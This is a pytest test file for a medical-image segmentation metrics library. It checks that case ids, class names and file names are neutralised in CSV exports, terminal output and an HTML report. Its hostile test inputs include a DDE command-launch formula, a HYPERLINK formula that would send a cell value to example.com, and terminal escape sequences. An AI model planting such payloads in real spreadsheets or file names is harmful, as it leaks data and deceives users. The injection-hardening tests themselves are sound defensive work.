"""Data-derived text kept inert (issue 39, points 8-10 and the report's fragment of 16): case ids from file names,
class names from dataset.json, run names. Spreadsheet formulas in the CSV tables, terminal control characters in
what the command line prints, HTML ids that collide, a malformed URL fragment in the report's script.

The files are real (NIfTI images whose names hold the text, a real dataset.json); the command line runs as a real
process where its output to a terminal is what is tested; the report is opened in a real Chromium.
"""

from __future__ import annotations

import csv
import html
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import nibabel as nib
import numpy as np
import pandas as pd
import pytest
from _browser import browser

from ccmetrics import evaluate_dataset
from ccmetrics._escaping import SPREADSHEET_TRIGGERS, printable, spreadsheet_cell, spreadsheet_text
from ccmetrics.campaign.dataset import DatasetResult

#: ids a spreadsheet would run, ids that look like the neutraliser, a negative number, plain ones
HOSTILE_IDS = [
    "=1+1",
    "-x",
    "'=a",
    "'",
    "''",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "+cmd|' /C calc'!A0",
    "-1",
    '=HYPERLINK("http://example.com/?x="&A1,"open")',
    "a\rb\nc",
    "plain",
]


def _masks(shift: int = 0) -> tuple[np.ndarray, np.ndarray]:
    gt = np.zeros((10, 10, 10), np.uint8)
    gt[2:5, 2:5, 2:5] = 1
    gt[6:9, 6:9, 6:9] = 1
    pred = np.zeros_like(gt)
    pred[2 + shift : 5 + shift, 2:5, 2:5] = 1
    return gt, pred


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# ---------------------------------------------------------------- 8: spreadsheet formulas


def test_the_rule_is_injective_and_undone_exactly():
    texts = [*HOSTILE_IDS, "", "'''", "'-", "a'", "==", " =1"]
    cells = [spreadsheet_cell(t) for t in texts]
    assert len(set(cells)) == len(texts)  # no two texts share a cell
    assert [spreadsheet_text(c) for c in cells] == texts
    for text, cell in zip(texts, cells):
        runs = text.startswith((*SPREADSHEET_TRIGGERS, "'"))
        assert cell == ("'" + text if runs else text)
        assert not cell.startswith(SPREADSHEET_TRIGGERS)  # no cell a spreadsheet runs


def test_csv_tables_hold_neutralised_ids_and_read_gives_them_back(tmp_path):
    gt, pred = _masks(shift=1)
    result = evaluate_dataset(
        {case: (gt.copy(), pred.copy()) for case in HOSTILE_IDS}, metrics=["dice", "hd95", "detection"], progress=False
    )
    result.write(tmp_path, plots=False)
    tables = ["per_case.csv", "per_component.csv", "per_prediction.csv"]

    for name in tables:  # the csv module: every id in its neutralised cell, no cell a spreadsheet runs
        rows = _cells(tmp_path / name)
        header, body = rows[0], rows[1:]
        ids = {row[header.index("case")] for row in body}
        assert ids == {spreadsheet_cell(case) for case in HOSTILE_IDS}, name
        assert {"'=1+1", "'-1", "''=a", "''", "'''", "'\rx", "'+cmd|' /C calc'!A0"} <= ids, name
        for row in body:
            for cell in row:
                assert not cell.startswith(SPREADSHEET_TRIGGERS) or _is_number(cell), (name, cell)
    # numbers, negative ones included, are written as they are: pandas reads the same floats
    raw = pd.read_csv(tmp_path / "per_case.csv", dtype={"case": str}, keep_default_na=False)
    assert "'=1+1" in set(raw["case"]) and "'-1" in set(raw["case"]) and "-1" not in set(raw["case"])
    assert raw["dice"].dtype == float and raw["dice"].tolist() == pytest.approx(result.per_case["dice"].tolist())

    back = DatasetResult.read(tmp_path)  # the ids as they were, in every table
    for frame, original in (
        (back.per_case, result.per_case),
        (back.per_component, result.per_component),
        (back.per_prediction, result.per_prediction),
    ):
        assert sorted(frame["case"]) == sorted(original["case"])
        assert set(frame["case"]) == set(HOSTILE_IDS)
    merged = back.per_case.set_index("case")["dice"]
    assert merged.to_dict() == pytest.approx(result.per_case.set_index("case")["dice"].to_dict())
    doc = json.loads((tmp_path / "summary.json").read_text())  # JSON keeps the ids as they are
    assert {e["case"] for e in doc["errors"]} == set() and doc["counts"]["cases"] == len(HOSTILE_IDS)


def test_class_names_of_dataset_json_and_file_names_are_neutralised(tmp_path):
    gt, pred = _masks()
    for sub, array in (("gt", gt), ("pred", pred)):
        (tmp_path / sub).mkdir()
        for case in ("=2+3", "@cmd", "ok"):
            nib.save(nib.Nifti1Image(array, np.eye(4)), tmp_path / sub / f"{case}.nii.gz")
    name = '=HYPERLINK("http://example.com","x")'
    (tmp_path / "dataset.json").write_text(json.dumps({"labels": {"background": 0, name: 1}, "file_ending": ".nii.gz"}))
    result = evaluate_dataset(
        tmp_path / "gt", tmp_path / "pred", ["dice"], dataset_json=tmp_path / "dataset.json", progress=False
    )
    out = tmp_path / "out"
    result.write(out, plots=False)
    rows = _cells(out / "per_component.csv")
    header = rows[0]
    assert {r[header.index("class_name")] for r in rows[1:]} == {"'" + name}
    assert {r[header.index("case")] for r in rows[1:]} == {"'=2+3", "'@cmd", "ok"}
    files = {r[header.index("case")]: r for r in _cells(out / "per_case.csv")[1:]}
    assert all(not cell.startswith(SPREADSHEET_TRIGGERS) for row in files.values() for cell in row if cell)
    back = DatasetResult.read(out)
    assert set(back.per_component["class_name"]) == {name}
    assert set(back.per_case["case"]) == {"=2+3", "@cmd", "ok"}
    assert back.class_names == {1: name}


@pytest.mark.slow  # whole commands
def test_compare_writes_neutralised_case_ids_and_run_names(tmp_path):
    from ccmetrics.cli import main

    gt, pred = _masks(shift=1)
    cases = {case: (gt.copy(), pred.copy()) for case in ("=1+1", "-1", "'x", "plain")}
    for run in ("a", "b"):
        evaluate_dataset(cases, metrics=["dice"], progress=False).write(tmp_path / run, plots=False)
    code = main(
        ["compare", str(tmp_path / "a"), str(tmp_path / "b"), "--metric", "cc_dice", "--names", "=A,@B"]
        + ["--out", str(tmp_path / "cmp")]
    )
    assert code == 0
    rows = _cells(tmp_path / "cmp" / "comparison.csv")
    assert rows[0][1:] == ["'=A", "'@B"]
    assert sorted(r[0] for r in rows[1:]) == sorted(["'=1+1", "'-1", "''x", "plain"])


# ---------------------------------------------------------------- 9: terminal control characters

#: file names that would hide the word "failed", retitle the terminal and go back to the line's start
TERMINAL_IDS = ["hide\x1b[8m", "title\x1b]0;owned\x07", "back\rok"]


def test_printable_escapes_every_control_character():
    shown = printable("".join(TERMINAL_IDS) + "\x9b\u202e\n\t")
    assert all(ch.isprintable() for ch in shown)
    assert shown == "hide\\x1b[8mtitle\\x1b]0;owned\\x07back\\x0dok\\x9b\\u202e\\x0a\\x09"
    assert printable("a\nb", newlines=True) == "a\nb"


@pytest.mark.slow  # a real process: its stderr as a terminal gets it
def test_cli_shows_warnings_escaped_and_callers_still_record_them():
    script = (
        "import warnings\n"
        "from ccmetrics.cli._common import _printable_warnings\n"
        "with _printable_warnings():\n"
        "    warnings.warn(\"segment 'tumour\\x1b[8m' named twice\", UserWarning, stacklevel=1)\n"
        "    with warnings.catch_warnings(record=True) as caught:\n"
        "        warnings.warn('segment \\x1b]0;x\\x07', UserWarning, stacklevel=1)\n"
        "print(repr([str(w.message) for w in caught]), warnings.formatwarning.__module__)\n"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "UserWarning: segment 'tumour\\x1b[8m' named twice" in done.stderr and "\x1b" not in done.stderr
    # a caller that records warnings gets the text as it was; the formatter is Python's again after the block
    assert done.stdout.strip() == repr(["segment \x1b]0;x\x07"]) + " warnings"


def _terminal_folders(root: Path) -> tuple[Path, Path]:
    gt, pred = _masks()
    for sub in ("gt", "pred"):
        (root / sub).mkdir(parents=True)
    for case in TERMINAL_IDS:
        nib.save(nib.Nifti1Image(gt, np.eye(4)), root / "gt" / f"{case}.nii.gz")
        nib.save(nib.Nifti1Image(pred[:9], np.eye(4)), root / "pred" / f"{case}.nii.gz")  # another shape: fails
    (root / "gt" / "notes\x1b[2J.txt").write_text("not an image")
    return root / "gt", root / "pred"


def _ccmetrics(*args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "MPLBACKEND": "Agg"}
    return subprocess.run(
        [sys.executable, "-m", "ccmetrics", *args], capture_output=True, text=True, env=env, timeout=300
    )


@pytest.mark.slow  # real processes
def test_cli_prints_no_control_character_of_a_file_name(tmp_path):
    gt, pred = _terminal_folders(tmp_path / "data")
    quiet = _ccmetrics("evaluate", str(gt), str(pred), "--out", str(tmp_path / "q"), "--quiet", "--no-plots")
    assert quiet.returncode == 1, quiet.stderr
    printed = quiet.stdout + quiet.stderr
    assert [ch for ch in printed if not ch.isprintable() and ch != "\n"] == []
    for case in TERMINAL_IDS:  # each failed case named, escaped, on its own line with the word "failed"
        assert re.search(rf"^ccmetrics evaluate: {re.escape(printable(case))} failed: \S", quiet.stderr, re.M), case

    full = _ccmetrics("evaluate", str(gt), str(pred), "--out", str(tmp_path / "f"), "--no-plots")
    assert full.returncode == 1, full.stderr
    printed = full.stdout + full.stderr
    assert "\x1b" not in printed and "\x07" not in printed and "back\rok" not in printed
    assert [ch for ch in full.stdout if not ch.isprintable() and ch != "\n"] == []  # stderr: the bar's own \r
    for case in TERMINAL_IDS:
        assert re.search(rf"^  error   {re.escape(printable(case))}: \S", full.stdout, re.M), case
    assert re.search(r"^  ignored  \S*/notes\\x1b\[2J\.txt \(not an image file\)$", full.stdout, re.M)

    again = _ccmetrics("evaluate", str(gt), str(pred), "--out", str(tmp_path / "f"), "--no-plots", "--overwrite")
    assert "\x1b" not in again.stdout + again.stderr and "back\rok" not in again.stdout + again.stderr
    missing = _ccmetrics("evaluate", str(gt / "hide\x1b[8m.nii.gz"), str(pred), "--out", str(tmp_path / "m"))
    assert missing.returncode == 2 and "error:" in missing.stderr and "hide\\x1b[8m" in missing.stderr
    assert "\x1b" not in missing.stdout + missing.stderr


# ---------------------------------------------------------------- 10 and 16: the report's ids and script

#: ids that got one HTML id: spaces and underscores, a case named like another's lesion, a fixed id's name
COLLIDING = ["case 001", "case_001", "a-lesion-1", "a", "table", "a.2d.lesion.2d.1"]


@pytest.fixture(scope="module")
def colliding_report(tmp_path_factory):
    from ccmetrics.report import write_report

    root = tmp_path_factory.mktemp("ids")
    for sub in ("gt", "pred"):
        (root / sub).mkdir()
    for k, case in enumerate(COLLIDING):
        gt, pred = _masks(shift=k % 2)
        pred = pred.copy()
        pred[0, 0, : k + 1] = 1  # a false positive whose size tells the case
        nib.save(nib.Nifti1Image(gt, np.eye(4)), root / "gt" / f"{case}.nii.gz")
        nib.save(nib.Nifti1Image(pred, np.eye(4)), root / "pred" / f"{case}.nii.gz")
    evaluate_dataset(root / "gt", root / "pred", ["dice", "detection"], progress=False).write(root / "out")
    out = root / "report.html"
    write_report(root / "out", out)
    return out


def test_report_ids_are_unique_and_every_link_has_its_target(colliding_report):
    text = colliding_report.read_text()
    ids = [html.unescape(i) for i in re.findall(r'\bid="([^"]*)"', text)]
    assert len(ids) == len(set(ids)), sorted(i for i in ids if ids.count(i) > 1)
    links = {html.unescape(h) for h in re.findall(r'href="#([^"]*)"', text)}
    assert links and links <= set(ids), links - set(ids)
    sections = re.findall(r'<details id="([^"]*)" class="case">\s*<summary>.*?<strong>(.*?)</strong>', text, re.S)
    assert sorted(html.unescape(title) for _, title in sections) == sorted(COLLIDING)
    assert len({anchor for anchor, _ in sections}) == len(COLLIDING)


def test_browser_each_link_opens_its_own_case(colliding_report, tmp_path):
    d = browser(tmp_path)
    try:
        d.get(colliding_report.as_uri())
        links = d.execute_script(
            "return [...document.querySelectorAll('#cases table tbody a, #finder table tbody a')]"
            ".map(a => [a.closest('section').id, a.closest('tr').querySelector('td').dataset.value, a.hash]);"
        )  # the ranked table's links and the lesion finder's
        assert {case for section, case, _ in links if section == "cases"} == set(COLLIDING)
        assert {case for section, case, _ in links if section == "finder"} == set(COLLIDING)
        for _, case, fragment in links:
            d.find_element("id", "collapse-all").click()
            d.execute_script("window.location.hash = arguments[0];", fragment)
            opened = d.execute_script(
                "return [...document.querySelectorAll('details.case[open] > summary strong')].map(s => s.textContent);"
            )
            assert opened == [case], (case, fragment)
        assert [e for e in d.get_log("browser") if e["level"] == "SEVERE"] == []
    finally:
        d.quit()


def test_browser_report_survives_a_malformed_fragment(colliding_report, tmp_path):
    d = browser(tmp_path)
    try:
        for fragment in ("#%E0%A4%A", "#%", "#case-a%ZZ", "#" + "%" * 3):
            d.get(colliding_report.as_uri() + fragment)
            d.find_element("id", "expand-all").click()
            opened = d.execute_script("return document.querySelectorAll('details.case[open]').length;")
            assert opened == len(COLLIDING), fragment
            d.find_element("id", "collapse-all").click()
            assert d.execute_script("return document.querySelectorAll('details.case[open]').length;") == 0
            errors = [e["message"] for e in d.get_log("browser") if e["level"] == "SEVERE"]
            assert errors == [], (fragment, errors)
        d.get(colliding_report.as_uri() + "#" + "case-case.20.001")  # a well-formed one still opens its case
        assert d.execute_script(
            "return [...document.querySelectorAll('details.case[open] > summary strong')].map(s => s.textContent);"
        ) == ["case 001"]
    finally:
        d.quit()


@pytest.mark.parametrize("manifest", ["none", "format 1"])
def test_a_folder_written_before_the_neutralising_reads_its_ids_as_written(tmp_path, manifest):
    """Tables written raw by an earlier ccmetrics (no manifest, or a manifest of format 1) hold ids as they were:
    one that starts with ``'`` keeps it (undoing a neutralising that never happened would change it, and merge
    ``abc`` with ``'abc``)."""
    import hashlib
    import json

    ids = ["'abc", "abc", "''", "=x"]
    gt, pred = _masks(shift=1)
    result = evaluate_dataset({case: (gt.copy(), pred.copy()) for case in ids}, metrics=["dice"], progress=False)
    result.write(tmp_path, plots=False)
    files = {}
    for name in ("per_case.csv", "per_component.csv"):  # as the earlier code wrote them: pandas' to_csv, raw
        frame = DatasetResult.read(tmp_path).per_case if name == "per_case.csv" else result.per_component
        frame.to_csv(tmp_path / name, index=False)
        files[name] = (tmp_path / name).read_bytes()
    files["summary.json"] = (tmp_path / "summary.json").read_bytes()
    if manifest == "none":
        (tmp_path / "manifest.json").unlink()
    else:
        digests = {n: {"bytes": len(b), "sha256": hashlib.sha256(b).hexdigest()} for n, b in files.items()}
        doc = {"format": 1, "state": "complete", "run": "0" * 32, "written": "2026-11-20T10:00:00+00:00"}
        (tmp_path / "manifest.json").write_text(json.dumps({**doc, "files": digests}))
    back = DatasetResult.read(tmp_path)
    assert sorted(back.per_case["case"]) == sorted(ids)
    assert sorted(set(back.per_component["case"])) == sorted(set(result.per_component["case"]))
